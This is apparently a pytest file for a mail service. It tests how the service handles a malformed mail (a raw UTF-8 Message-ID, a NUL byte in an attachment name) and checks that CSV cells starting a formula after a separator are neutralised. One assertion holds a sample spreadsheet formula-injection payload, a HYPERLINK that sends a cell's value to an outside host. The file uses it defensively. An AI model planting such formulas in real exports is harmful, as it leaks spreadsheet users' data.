"""Issue 20, finding 7: the small ones. A raw 8-bit Message-ID and a NUL in an attachment's
name are answered like any mail (through Dovecot and SMTP, on SQLite and PostgreSQL), and a
CSV cell stays text whichever list separator the spreadsheet splits on."""

from __future__ import annotations

from pathlib import Path
from typing import Any

from hypothesis import given
from hypothesis import strategies as st
from sqlalchemy import select

from mailflow.export_safety import FORMULA_TRIGGERS, safe_csv_row, safe_csv_value
from mailflow.store.models import Attachment, InboundMail
from mailflow_testing import mailbuild
from tests.stack import SERVICE, query, run_once, stack_settings

SENDER = "li.na@example.test"


def hostile_but_honest_mail() -> bytes:
    """What some broken clients send: a raw UTF-8 Message-ID, a NUL in a file name."""
    raw = mailbuild.to_crlf(mailbuild.human_mail(
        sender=SENDER, to=SERVICE, subject="申请 =?utf-8?q?a=00b?=", body="见附件",
        message_id="<placeholder@example.test>",
        attachments=[("说明.txt", b"hello", "text/plain")]))
    raw = raw.replace(b"<placeholder@example.test>",
                      "<申请-2026@客户端.example>".encode(), 1)
    raw = raw.replace(b"filename*=utf-8''%E8%AF%B4%E6%98%8E.txt",
                      b"filename*=utf-8''%E8%AF%B4%00%E6%98%8E.txt", 1)
    assert b"%00" in raw and "申请-2026".encode() in raw
    return raw


def test_raw_8bit_message_id_and_nul_in_a_name_are_answered_not_quarantined(
    mailstack: Any, database_url: str, tmp_path: Path
) -> None:
    mailstack.dovecot.add_user(SENDER, "pw")
    settings = stack_settings(mailstack.dovecot, mailstack.smtp, database_url, tmp_path)
    mailstack.dovecot.append(SERVICE, hostile_but_honest_mail())

    run_once(settings)

    (mail,) = query(settings, select(InboundMail))
    assert mail.status != "quarantined", mail.status_reason
    assert mail.message_id == "<申请-2026@客户端.example>"
    assert "\x00" not in mail.subject
    (attachment,) = query(settings, select(Attachment))
    assert attachment.original_filename == "说明.txt"
    (reply,) = [m for m in mailstack.smtp.messages if SENDER in m.rcpt_tos]
    assert "申请" in str(reply.parsed()["Subject"])


def test_undecodable_8bit_message_id_is_dropped_and_the_mail_answered(tmp_path: Path) -> None:
    from mailflow.mail.parse import parse_mail

    raw = hostile_but_honest_mail().replace("客户端".encode(), b"\xff\xfe", 1)
    parsed = parse_mail(raw)
    assert parsed.message_id is None
    assert parsed.sender is not None and parsed.sender.addr == SENDER


def test_formula_after_a_semicolon_or_comma_is_neutralised_in_csv() -> None:
    assert safe_csv_value('总计;=HYPERLINK("http://x/?"&A1)') == '总计;\'=HYPERLINK("http://x/?"&A1)'
    assert safe_csv_value("a, @SUM(A1)") == "a, '@SUM(A1)"
    assert safe_csv_value("a;b-c") == "a;b-c"  # text without a sign after a separator: as is
    assert safe_csv_row([5, None]) == [5, None]


@given(st.text(alphabet=st.sampled_from(list("ab;, =+-@\t\uff1d\u3000x")), max_size=30))
def test_no_csv_cell_part_starts_a_formula_whatever_the_separator(text: str) -> None:
    cell = safe_csv_value(text)
    assert isinstance(cell, str)
    for separator in (";", ","):
        for piece in cell.split(separator):
            first = piece.lstrip(" \u3000")[:1]
            assert first not in FORMULA_TRIGGERS, (text, cell, piece)
